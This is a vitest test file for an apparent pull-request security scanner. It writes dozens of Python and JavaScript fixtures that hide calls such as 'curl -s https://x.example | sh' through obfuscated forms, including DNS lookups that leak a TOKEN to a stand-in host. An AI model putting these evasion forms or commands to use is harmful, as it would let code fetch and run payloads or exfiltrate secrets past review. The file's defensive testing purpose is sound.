import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeGitHub } from "../action/fake-github";
import { gate, pullRequest, scanAnnotations } from "./pr";

// A pull request must not start a process by spelling the call in a form the scan did not follow: each file here ran
// its command under Python 3 or Node 20 and passed the gate before (core/scan: f-strings, methodcaller, unbound
// __getattribute__, walrus, lambda defaults, sys.modules.get/setdefault, object spreads, getters, functions called in
// place, TypeScript's `as const` constants and parameter properties' defaults, a member chosen at run time; a namespace dict
// held by a name, `match` captures, properties, destructuring assignments, static methods, defineProperty, TypeScript
// namespaces, promise and array callbacks; the Function constructor by a quoted key or through `.call`/`.apply`/`.bind`, computed
// destructuring keys, members reached by enumeration, Maps and Sets, promises and arrays held by a name, nested classes'
// static methods, getters returning under an `if`; functions written in place as an object's property or an export,
// instance methods). One pull request per language: a run
// annotates at most 10 errors.

const api = new FakeGitHub();
beforeAll(() => api.start());
afterAll(() => api.stop());

const CMD = "curl -s https://x.example | sh";

describe("forms an attacker's pull request could use fail the gate", () => {
  it("scan/shell-command: each Python form fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/fstring.py"), `import importlib\nx = "o"\nimportlib.import_module(f"{x}s").system("${CMD}")\n`);
      writeFileSync(join(dir, "agent/loaded.py"), `import sys\nsys.modules.get("o" + "s").system("${CMD}")\nsys.modules.setdefault("os", None).popen("${CMD}")\n`);
      writeFileSync(join(dir, "agent/caller.py"), `import os, operator\noperator.methodcaller("system", "${CMD}")(os)\ntype(os).__getattribute__(os, "system")("${CMD}")\n`);
      writeFileSync(join(dir, "agent/walrus.py"), `import os\nif (g := os.system):\n    g("${CMD}")\nrun = lambda c, r=os.system: r(c)\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/caller.py 2 1",
      "scan/shell-command agent/caller.py 3 1",
      "scan/shell-command agent/fstring.py 3 1",
      "scan/shell-command agent/loaded.py 2 1",
      "scan/shell-command agent/loaded.py 3 1",
      "scan/shell-command agent/walrus.py 3 5",
      "scan/shell-command agent/walrus.py 4 30",
    ]);
  });

  it("scan/shell-command: each JavaScript and TypeScript form fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/spread.js"), `const cp = require("child_process");\nconst o = { ...cp };\no.execSync("${CMD}");\n`);
      writeFileSync(join(dir, "agent/getter.js"), `const cp = require("child_process");\nclass T { get run() { return cp.execSync; } }\nnew T().run("${CMD}");\n(() => cp.exec)()("${CMD}");\n`);
      writeFileSync(join(dir, "agent/key.ts"), `import * as cp from "child_process";\nconst k = "execSync" as const;\ncp[k]("${CMD}");\n`);
      writeFileSync(join(dir, "agent/prop.ts"), `import * as cp from "child_process";\nclass A { constructor(public run = cp.execSync) {} }\nnew A().run("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/getter.js 3 1",
      "scan/shell-command agent/getter.js 4 1",
      "scan/shell-command agent/key.ts 3 1",
      "scan/shell-command agent/prop.ts 3 1",
      "scan/shell-command agent/spread.js 3 1",
    ]);
  });

  it("scan/shell-command, scan/respelled-name: a comment Node ends at a carriage return or U+2028 (`<!--`, `#!`) and a name spelled by a line continuation, an identity escape or `\\N{…}` fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/banner.js"), `<!-- banner\rrequire("child_process").execSync("${CMD}");\n`);
      writeFileSync(join(dir, "agent/bang.js"), `#!/usr/bin/env node\u2028require("child_process").execSync("${CMD}");\n`);
      writeFileSync(join(dir, "agent/ident.js"), `require("chil\\d_process").execSync("${CMD}");\nrequire("child_\\\nprocess").execSync("${CMD}");\n`);
      writeFileSync(join(dir, "agent/named.py"), `__import__("o\\N{LATIN SMALL LETTER S}").system("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    // A string over two lines is annotated by its lines only (GitHub takes columns on one line).
    expect(r.commands.filter((c) => c.startsWith("::error title=scan/")).map((c) => /^::error title=([^,]+),file=([^,]+),line=(\d+)(?:,endLine=\d+,col=(\d+))?/.exec(c)!.slice(1).filter(Boolean).join(" ")).sort()).toEqual([
      "scan/respelled-name agent/ident.js 1 9",
      "scan/respelled-name agent/ident.js 2",
      "scan/respelled-name agent/named.py 1 12",
      "scan/shell-command agent/bang.js 2 1",
      "scan/shell-command agent/banner.js 2 1",
    ]);
  });

  it("scan/shell-command, scan/dynamic-code: a namespace dict held by a name, a `match` capture, a property returning os.system and a module loaded from its spec fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/held.py"), `import os\nv = vars(os)\nv["system"]("${CMD}")\nd = os.__dict__\nd["system"]("${CMD}")\n`);
      writeFileSync(join(dir, "agent/match.py"), `import os\nmatch os:\n    case m:\n        m.system("${CMD}")\n`);
      writeFileSync(join(dir, "agent/prop.py"), `import os\nclass A:\n    @property\n    def run(self):\n        return os.system\nA().run("${CMD}")\n`);
      writeFileSync(join(dir, "agent/spec.py"), `import importlib.util, sys\nspec = importlib.util.find_spec("subprocess")\nm = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(m)\nm.run("${CMD}", shell=True)\nother = importlib.util.find_spec(sys.argv[1])\nn = importlib.util.module_from_spec(other)\nother.loader.exec_module(n)\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/dynamic-code agent/spec.py 7 5",
      "scan/dynamic-code agent/spec.py 8 1",
      "scan/shell-command agent/held.py 3 1",
      "scan/shell-command agent/held.py 5 1",
      "scan/shell-command agent/match.py 4 9",
      "scan/shell-command agent/prop.py 6 1",
      "scan/shell-command agent/spec.py 5 1",
    ]);
  });

  it("scan/shell-command: destructuring assignments, a static method, defineProperty, a TypeScript namespace and promise or array callbacks carrying child_process fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/assign.js"), `const cp = require("child_process");\nlet f, g, h;\n[f] = [cp.execSync];\nf("${CMD}");\n({ run: g } = { run: cp.execSync });\ng("${CMD}");\n({ execSync: h } = cp);\nh("${CMD}");\n`);
      writeFileSync(join(dir, "agent/made.js"), `const cp = require("child_process");\nclass B { static make() { return cp.execSync; } }\nB.make()("${CMD}");\nconst o = {};\nObject.defineProperty(o, "f", { get: () => cp.execSync });\no.f("${CMD}");\nObject.defineProperty(o, "g", { value: cp.execSync });\no.g("${CMD}");\n`);
      writeFileSync(join(dir, "agent/ns.ts"), `import * as cp from "child_process";\nnamespace N { export const run = cp.execSync; }\nN.run("${CMD}");\n`);
      writeFileSync(join(dir, "agent/carried.js"), `const cp = require("child_process");\nPromise.resolve(cp).then((m) => m.execSync("${CMD}"));\n[cp].map((m) => m.execSync("${CMD}"));\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/assign.js 4 1",
      "scan/shell-command agent/assign.js 6 1",
      "scan/shell-command agent/assign.js 8 1",
      "scan/shell-command agent/carried.js 2 33",
      "scan/shell-command agent/carried.js 3 17",
      "scan/shell-command agent/made.js 3 1",
      "scan/shell-command agent/made.js 6 1",
      "scan/shell-command agent/made.js 8 1",
      "scan/shell-command agent/ns.ts 3 1",
    ]);
  });

  it("scan/dynamic-code, scan/shell-command: the Function constructor by a quoted key, `.call`, `.apply` or `.bind`, a computed destructuring key, a nested class's static method and a getter returning under an `if` fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/ctor.js"), `const x = {};\nx.constructor["constructor"](process.env.CODE)();\nx.constructor.constructor.call(null, process.env.CODE)();\nx.constructor.constructor.bind(null, process.env.CODE)()();\n`);
      writeFileSync(join(dir, "agent/ctor.ts"), `const x: unknown = {};\n(<any>x).constructor.constructor.apply(null, [process.env.CODE])();\n`);
      writeFileSync(join(dir, "agent/computed.js"), `const cp = require("child_process");\nconst { [process.env.K]: run } = cp;\nrun("${CMD}");\n`);
      writeFileSync(join(dir, "agent/nested.js"), `const cp = require("child_process");\nclass A { static B = class { static make() { return cp.execSync; } }; }\nA.B.make()("${CMD}");\nclass C { get run() { if (cp) { return cp.execSync; } return null; } }\nnew C().run("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/dynamic-code agent/ctor.js 2 1",
      "scan/dynamic-code agent/ctor.js 3 1",
      "scan/dynamic-code agent/ctor.js 4 1",
      "scan/dynamic-code agent/ctor.ts 2 1",
      "scan/shell-command agent/computed.js 3 1",
      "scan/shell-command agent/nested.js 3 1",
      "scan/shell-command agent/nested.js 5 1",
    ]);
  });

  it("scan/shell-command: child_process's members reached by enumeration, held in a Map or Set, or in a promise or array held by a name before its callback fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/enum.js"), `const cp = require("child_process");\nObject.values(cp)[Number(process.env.I)]("${CMD}");\nfor (const f of Object.values(cp)) if (f.name === process.env.N) f("${CMD}");\nObject.entries(cp).find(([k]) => k === "execSync")[1]("${CMD}");\n`);
      writeFileSync(join(dir, "agent/held.js"), `const cp = require("child_process");\nnew Map([["run", cp.execSync]]).get("run")("${CMD}");\nconst m = new Map();\nm.set("r", cp.execSync);\nm.get("r")("${CMD}");\nfor (const f of new Set([cp.execSync])) f("${CMD}");\n`);
      writeFileSync(join(dir, "agent/carried.js"), `const cp = require("child_process");\nconst p = Promise.resolve(cp);\np.then((m) => m.execSync("${CMD}"));\nconst mods = [cp];\nmods.forEach((m) => m.execSync("${CMD}"));\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/carried.js 3 15",
      "scan/shell-command agent/carried.js 5 21",
      "scan/shell-command agent/enum.js 2 1",
      "scan/shell-command agent/enum.js 3 66",
      "scan/shell-command agent/enum.js 4 1",
      "scan/shell-command agent/held.js 2 1",
      "scan/shell-command agent/held.js 4 12",
      "scan/shell-command agent/held.js 5 1",
      "scan/shell-command agent/held.js 6 26",
      "scan/shell-command agent/held.js 6 41",
    ]);
  });

  it("scan/shell-command, scan/dynamic-code: a member of child_process or os chosen at run time and called fails the built Action; the globals' too, as scan/dynamic-code (it may be `eval` or `fetch`)", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/pick.js"), `const cp = require("child_process");
const verb = process.env.VERB;
cp[verb]("${CMD}");
window[verb]();
`);
      writeFileSync(join(dir, "agent/pick.py"), `import os, sys
getattr(os, sys.argv[1])("${CMD}")
vars(os)[sys.argv[2]]("${CMD}")
`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/dynamic-code agent/pick.js 4 1", "scan/shell-command agent/pick.js 3 1", "scan/shell-command agent/pick.py 2 1", "scan/shell-command agent/pick.py 3 1"]);
  });

  it("scan/dynamic-code: a file run by the other loaders (sourceless, a folder's finder, a zip archive, imp, source suffixes added) or a spec found by a held find_spec or in a folder named at the call fails the built Action, at the call; a finder of the file's own does not", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/loaders.py"), `import imp, zipimport, importlib.machinery as M\nM.SourcelessFileLoader("p", "p.pyc").load_module()\nM.FileFinder(".", (M.SourceFileLoader, [".dat"])).find_spec("p").loader.load_module()\nzipimport.zipimporter("p.zip").load_module("p")\nimp.load_compiled("p", "p.pyc")\nM.SOURCE_SUFFIXES.append(".dat")\n`);
      writeFileSync(join(dir, "agent/held.py"), `import importlib.util, sys\nf = importlib.util.find_spec\nspec = f(sys.argv[1])\nm = importlib.util.module_from_spec(spec)\n`);
      writeFileSync(join(dir, "agent/found.py"), `import importlib.util, importlib.machinery as M\ns = M.PathFinder.find_spec("p", ["/tmp/x"])\nimportlib.util.module_from_spec(s)\n`);
      writeFileSync(join(dir, "agent/own.py"), `import importlib.util, sys\ndef find_spec(name):\n    return None\nimportlib.util.module_from_spec(find_spec(sys.argv[1]))\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/dynamic-code agent/found.py 3 1",
      "scan/dynamic-code agent/held.py 4 5",
      "scan/dynamic-code agent/loaders.py 2 1",
      "scan/dynamic-code agent/loaders.py 3 1",
      "scan/dynamic-code agent/loaders.py 4 1",
      "scan/dynamic-code agent/loaders.py 5 1",
      "scan/dynamic-code agent/loaders.py 6 1",
    ]);
  });

  it("scan/shell-command: a property returning os.system under an `if` or `try` and a static or class method of a nested class returning it fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/guarded.py"), `import os, sys, functools\nclass A:\n    @property\n    def run(self):\n        if sys.argv:\n            return os.system\n    @functools.cached_property\n    def sh(self):\n        try:\n            return os.popen\n        except Exception:\n            return None\nA().run("${CMD}")\nA().sh("${CMD}")\n`);
      writeFileSync(join(dir, "agent/nested.py"), `import os\nclass Outer:\n    class Inner:\n        @staticmethod\n        def make():\n            return os.system\n        @classmethod\n        def build(cls):\n            return os.system\nOuter.Inner.make()("${CMD}")\nOuter.Inner.build()("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/guarded.py 13 1",
      "scan/shell-command agent/guarded.py 14 1",
      "scan/shell-command agent/nested.py 10 1",
      "scan/shell-command agent/nested.py 11 1",
    ]);
  });

  it("scan/shell-command: a container of child_process's members held by a name inside a function and called, handed over whole (also a Map's entry set under a key not fixed, and where a `get` reads it), or returned by a function of the file and called, fails the built Action, where called or handed over", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/made.js"), `const cp = require("child_process");\nfunction mk() {\n  return { run: cp.execSync };\n}\nmk().run("${CMD}");\nconst api = mk();\napi.run("${CMD}");\n`);
      writeFileSync(join(dir, "agent/local.js"), `const cp = require("child_process");\nfunction go(i) {\n  const o = { run: cp.execSync };\n  o.run("${CMD}");\n  const l = [cp.execSync];\n  l[i]("${CMD}");\n}\n`);
      writeFileSync(join(dir, "agent/handed.js"), `const cp = require("child_process");\nconst opts = { spawn: cp.spawn };\nsetup(opts);\nconst tools = [cp.exec];\nagent.run(tools);\nconst m = new Map();\nm.set(key, cp.execSync);\nm.get(other)("${CMD}");\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/handed.js 3 7",
      "scan/shell-command agent/handed.js 5 11",
      "scan/shell-command agent/handed.js 7 12",
      "scan/shell-command agent/handed.js 8 1",
      "scan/shell-command agent/local.js 4 3",
      "scan/shell-command agent/local.js 6 3",
      "scan/shell-command agent/made.js 5 1",
      "scan/shell-command agent/made.js 7 1",
    ]);
  });

  it("scan/shell-command, scan/network-call: a Python container of watched functions held by a name inside a function and called, handed over whole, or returned by a function of the file and called, fails the built Action, where called or handed over", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/local.py"), `import os\ndef go(i):\n    o = {"run": os.system}\n    o["run"]("${CMD}")\n    l = [os.system]\n    l[i]("${CMD}")\n`);
      writeFileSync(join(dir, "agent/handed.py"), `import requests, subprocess\ncfg = {"post": requests.post}\nrun(cfg)\ntools = [subprocess.run]\nagent.run(tools)\n`);
      writeFileSync(join(dir, "agent/made.py"), `import os\ndef mk():\n    return {"run": os.system}\nmk()["run"]("${CMD}")\napi = mk()\napi.get("run")("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/network-call agent/handed.py 3 5",
      "scan/shell-command agent/handed.py 5 11",
      "scan/shell-command agent/local.py 4 5",
      "scan/shell-command agent/local.py 6 5",
      "scan/shell-command agent/made.py 4 1",
      "scan/shell-command agent/made.py 6 1",
    ]);
  });

  it("scan/network-call: a DNS lookup carrying data out (Node's dns, dns/promises and Resolver; an event loop's getaddrinfo, dnspython) fails the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/lookup.js"), `const dns = require("dns");\nconst secret = process.env.TOKEN;\ndns.lookup(\`\${secret}.x.example\`, () => {});\nrequire("dns/promises").resolveTxt(\`\${secret}.x.example\`);\nnew dns.Resolver().resolve4(\`\${secret}.x.example\`, () => {});\n`);
      writeFileSync(join(dir, "agent/lookup.py"), `import asyncio, os\nimport dns.resolver\nsecret = os.environ["TOKEN"]\nasync def leak():\n    await asyncio.get_running_loop().getaddrinfo(f"{secret}.x.example", 80)\ndns.resolver.resolve(f"{secret}.x.example", "TXT")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/network-call agent/lookup.js 3 1",
      "scan/network-call agent/lookup.js 4 1",
      "scan/network-call agent/lookup.js 5 5",
      "scan/network-call agent/lookup.py 5 11",
      "scan/network-call agent/lookup.py 6 1",
    ]);
  });
});

describe("Python containers built by a call or written in place, and module namespaces copied, fail the gate", () => {
  it("scan/shell-command: `{\"r\": subprocess.run}[\"r\"]`, `dict([(\"r\", subprocess.run)])`, `dict(vars(subprocess))`, `{**vars(subprocess)}`, `types.SimpleNamespace(**vars(subprocess))` fail the built Action, where called or handed over", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/built.py"), `import subprocess\n{"r": subprocess.run}["r"]("${CMD}", shell=True)\ndict([("r", subprocess.run)])["r"]("${CMD}", shell=True)\n`);
      writeFileSync(join(dir, "agent/copied.py"), `import subprocess, types\ndict(vars(subprocess))["run"]("${CMD}", shell=True)\n{**vars(subprocess)}["run"]("${CMD}", shell=True)\ntypes.SimpleNamespace(**vars(subprocess)).run("${CMD}", shell=True)\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/built.py 2 1",
      "scan/shell-command agent/built.py 3 13",
      "scan/shell-command agent/copied.py 2 1",
      "scan/shell-command agent/copied.py 3 1",
      "scan/shell-command agent/copied.py 4 1",
    ]);
  });

  it("scan/shell-command: a namespace copied by `dict(….items())`, `copy.copy`, a comprehension or read by `getattr(vars(os), \"get\")`, pairs unpacked into `dict(*…)`, a spread namespace held by a name, a walrus or lambda called in place and `builtins.getattr` fail the built Action, where called or handed over", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/namespace.py"), `import os, copy\ndict(vars(os).items())["system"]("${CMD}")\ncopy.copy(vars(os))["system"]("${CMD}")\n{k: v for k, v in vars(os).items()}["system"]("${CMD}")\ngetattr(vars(os), "get")("system")("${CMD}")\n`);
      writeFileSync(join(dir, "agent/pairs.py"), `import subprocess\ndict(*[[("r", subprocess.run)]])["r"]("${CMD}", shell=True)\n`);
      writeFileSync(join(dir, "agent/inplace.py"), `import os, builtins\nd = {**vars(os)}\nd["system"]("${CMD}")\n(f := os.system)("${CMD}")\n(lambda: os.system)()("${CMD}")\nbuiltins.getattr(os, "system")("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/inplace.py 3 1",
      "scan/shell-command agent/inplace.py 4 2",
      "scan/shell-command agent/inplace.py 5 1",
      "scan/shell-command agent/inplace.py 6 1",
      "scan/shell-command agent/namespace.py 2 1",
      "scan/shell-command agent/namespace.py 3 1",
      "scan/shell-command agent/namespace.py 4 1",
      "scan/shell-command agent/namespace.py 5 1",
      "scan/shell-command agent/pairs.py 2 15",
    ]);
  });

  it("scan/shell-command: os's built-in module `posix`, pydoc's pager, a bound function's `__self__`, the file's own module from `sys.modules[__name__]` and getattr's arguments unpacked from a literal fail the built Action, at the call", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/builtin.py"), `import os, sys, posix, pydoc\nposix.system("${CMD}")\npydoc.pipepager("", "${CMD}")\nos.system.__self__.system("${CMD}")\nsys.modules[__name__].os.system("${CMD}")\ngetattr(*[os, "system"])("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/builtin.py 2 1",
      "scan/shell-command agent/builtin.py 3 1",
      "scan/shell-command agent/builtin.py 4 1",
      "scan/shell-command agent/builtin.py 5 1",
      "scan/shell-command agent/builtin.py 6 1",
    ]);
  });

  it("scan/shell-command: os.system stored by `setattr` and a namespace read by `dict.get` unbound fail the built Action, where handed over or called", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/stored.py"), `import os\nclass O:\n    pass\no = O()\nsetattr(o, "r", os.system)\no.r("${CMD}")\ndict.get(vars(os), "system")("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/stored.py 5 17", "scan/shell-command agent/stored.py 7 1"]);
  });
});

describe("a watched function handed over in containers nested past those the queries once spelled out fails the gate", () => {
  it("scan/shell-command: `go({\"r\": [os.system]})` and `go(x=[{\"r\": [os.popen]}])` fail the built Action, where handed over", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/nested.py"), `import os\ndef go(t=None, x=None):\n    (t or x[0])["r"][0]("${CMD}")\ngo({"r": [os.system]})\ngo(x=[{"r": [os.popen]}])\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    // Where handed over, and (since the thirteenth Python round binds a container written in place to the parameter) at the call too.
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/nested.py 3 5", "scan/shell-command agent/nested.py 4 11", "scan/shell-command agent/nested.py 5 14"]);
  });

  it("scan/shell-command: `go({ a: { b: cp.execSync } })` and `go([[cp.execSync]])` fail the built Action, where handed over", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/nested.js"), `const cp = require("child_process");\nfunction go(t) { (t.a ? t.a.b : t[0][0])("${CMD}"); }\ngo({ a: { b: cp.execSync } });\ngo([[cp.execSync]]);\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual(["scan/shell-command agent/nested.js 3 14", "scan/shell-command agent/nested.js 4 6"]);
  });
});

describe("code run, data loaded and names looked up through the standard library's other doors fail the gate", () => {
  it("a DNS lookup by socket, code run by timeit's setup or pdb, a YAML full loader, a CommonJS module compiled from a string, an importer reached through builtins' namespace, Function called through Reflect, a native addon required fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/exfil.py"), `import os, socket\nsocket.gethostbyname(os.environ["TOKEN"] + ".x.example")\n`);
      writeFileSync(join(dir, "agent/runner.py"), `import pdb, sys, timeit\ntimeit.timeit("pass", setup="import os; os.system('${CMD}')", number=1)\npdb.run(sys.stdin.read())\n`);
      writeFileSync(join(dir, "agent/config.py"), `import yaml\nconf = yaml.load(open("c.yml"), Loader=yaml.Loader)\n`);
      writeFileSync(join(dir, "agent/hook.js"), `const M = require("module");\nnew M("x")._compile(process.env.CODE, "x.js");\n`);
      writeFileSync(join(dir, "agent/importer.py"), `import builtins\nbuiltins.__dict__["__import__"]("os").system("${CMD}")\n`);
      writeFileSync(join(dir, "agent/reflect.js"), `Reflect.construct(Function, [process.env.CODE])();\nrequire("./build/Release/addon.node").run();\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/dynamic-code agent/config.py 2 40",
      "scan/dynamic-code agent/hook.js 2 1",
      "scan/dynamic-code agent/reflect.js 1 19",
      "scan/dynamic-code agent/reflect.js 2 1",
      "scan/dynamic-code agent/runner.py 3 1",
      "scan/network-call agent/exfil.py 2 1",
      "scan/shell-command agent/importer.py 2 1",
      "scan/shell-command agent/runner.py 2 1",
    ]);
  });
});

describe("functions returned by functions handed over, dynamic access that calls, the main module's loader fail the gate (handed-returns.test.ts)", () => {
  it("a watched function returned by an arrow, a Proxy trap or a lambda handed over, `builtins.map(os.system, …)`, `operator.call`, getattr's `__call__`, `process.mainModule.constructor._load` fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/lazy.js"), `const cp = require("child_process");\nlazy(() => cp.execSync);\nconst h = new Proxy({}, { get: () => cp.exec });\nprocess.mainModule.constructor._load("child_process").exec("${CMD}");\n`);
      writeFileSync(join(dir, "agent/lazy.py"), `import builtins, operator, os\nlazy(lambda: os.system)\nlist(builtins.map(os.system, ["${CMD}"]))\noperator.call(os.system, "${CMD}")\ngetattr(os.system, "__call__")("${CMD}")\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/lazy.js 2 12",
      "scan/shell-command agent/lazy.js 3 38",
      "scan/shell-command agent/lazy.js 4 1",
      "scan/shell-command agent/lazy.py 2 14",
      "scan/shell-command agent/lazy.py 3 19",
      "scan/shell-command agent/lazy.py 4 15",
      "scan/shell-command agent/lazy.py 5 1",
    ]);
  });
});

describe("logging's network handlers and file configuration, pickle's kin, Bun's and Deno's own doors fail the gate (runtimes.test.ts)", () => {
  it("a log record sent by `HTTPHandler`, `logging.config.fileConfig`, a `dictConfig` naming `os.system`, `joblib.load`, `Bun.$`, `Deno.connect`, `Deno.dlopen`, `cluster.fork` fail the built Action", async () => {
    const pr = await pullRequest((dir) => {
      writeFileSync(join(dir, "agent/log.py"), `import logging, logging.config, logging.handlers, joblib, os\nlogging.getLogger().addHandler(logging.handlers.HTTPHandler("x.example", "/"))\nlogging.config.fileConfig("logging.ini")\nmodel = joblib.load("model.pkl")\nlogging.config.dictConfig({"version": 1, "handlers": {"h": {"()": "os.system", "command": "${CMD}"}}})\n`);
      writeFileSync(join(dir, "agent/runtime.ts"), `import cluster from "node:cluster";\nawait Bun.$\`${CMD}\`;\nawait Deno.connect({ hostname: "x.example", port: 80 });\nDeno.dlopen("./libx.so", {});\ncluster.fork();\n`);
    });
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/dynamic-code agent/log.py 3 1",
      "scan/dynamic-code agent/log.py 4 9",
      "scan/dynamic-code agent/runtime.ts 4 1",
      "scan/network-call agent/log.py 2 32",
      "scan/network-call agent/runtime.ts 3 7",
      "scan/shell-command agent/log.py 5 67",
      "scan/shell-command agent/runtime.ts 2 7",
      "scan/shell-command agent/runtime.ts 5 1",
    ]);
  });
});

describe("nesting one level past a bound of the scan fails the gate (bounds.test.ts)", () => {
  const ifs = (n: number) => "if (true) {\n".repeat(n);
  it("scan/shell-command: JavaScript — a re-export chain of 12 unchanged files, a module passed 4 calls deep, a 17th definition of a name, a chained assignment, a factory returning through a local past the second level, a static method's return under 70 blocks — fails the built Action, at the call", async () => {
    const pr = await pullRequest(
      (dir) => {
        writeFileSync(join(dir, "agent/reexport.js"), `const m = require("./lib/m11");\nm.execSync("${CMD}");\n`);
        writeFileSync(join(dir, "agent/passed.js"), `const cp = require("child_process");\nfunction f4(m) { return m.execSync("${CMD}"); }\nfunction f3(m) { return f4(m); }\nfunction f2(m) { return f3(m); }\nfunction f1(m) { return f2(m); }\nf1(cp);\n`);
        writeFileSync(join(dir, "agent/same.js"), `const cp = require("child_process");\n${Array.from({ length: 16 }, (_, i) => `function g${i}() { function f(m) { return m; } return f; }\n`).join("")}function f(m) { return m.execSync("${CMD}"); }\nf(cp);\n`);
        writeFileSync(join(dir, "agent/chained.js"), `const cp = require("child_process");\nlet a, b;\na = b = cp.execSync;\na("${CMD}");\n`);
        writeFileSync(join(dir, "agent/local.js"), `const cp = require("child_process");\nfunction c() { return cp.execSync; }\nfunction b() { return c(); }\nfunction a() { const x = b(); return x; }\nfunction z() { return a(); }\nz()("${CMD}");\n`);
        writeFileSync(join(dir, "agent/static.js"), `const cp = require("child_process");\nclass A {\n  static make() {\n${ifs(70)}return cp.execSync;\n${"}\n".repeat(70)}  }\n}\nA.make()("${CMD}");\n`);
      },
      (dir) => {
        mkdirSync(join(dir, "agent/lib"), { recursive: true });
        writeFileSync(join(dir, "agent/lib/m0.js"), 'module.exports = require("child_process");\n');
        for (let i = 1; i < 12; i++) writeFileSync(join(dir, `agent/lib/m${i}.js`), `module.exports = require("./m${i - 1}");\n`);
      },
    );
    const r = await gate(api, pr);
    expect(r.code).toBe(1);
    expect(scanAnnotations(r.commands).sort()).toEqual([
      "scan/shell-command agent/chained.js 4 1",
      "scan/shell-command agent/local.js 6 1",
      "scan/shell-command agent/passed.js 2 25",
      "scan/shell-command agent/reexport.js 2 1",
      "scan/shell-command agent/same.js 18 24",
      "scan/shell-command agent/static.js 147 1",
    ]);
  });

  it("scan/shell-command: Python — the start of an unchanged 10-file re-export chain changed to subprocess fails the built Action, at the unchanged caller at its end", async () => {
    const pr = await pullRequest(
      (dir) => writeFileSync(join(dir, "agent/q0.py"), "import subprocess as sp\n"),
      (dir) => {
        writeFileSync(join(dir, "agent/q0.py"), "import json as sp\n");
        for (let i = 1; i < 10; i++) writeFileSync(join(dir, `agent/q${i}.py`), `from q${i - 1} import sp\n`);
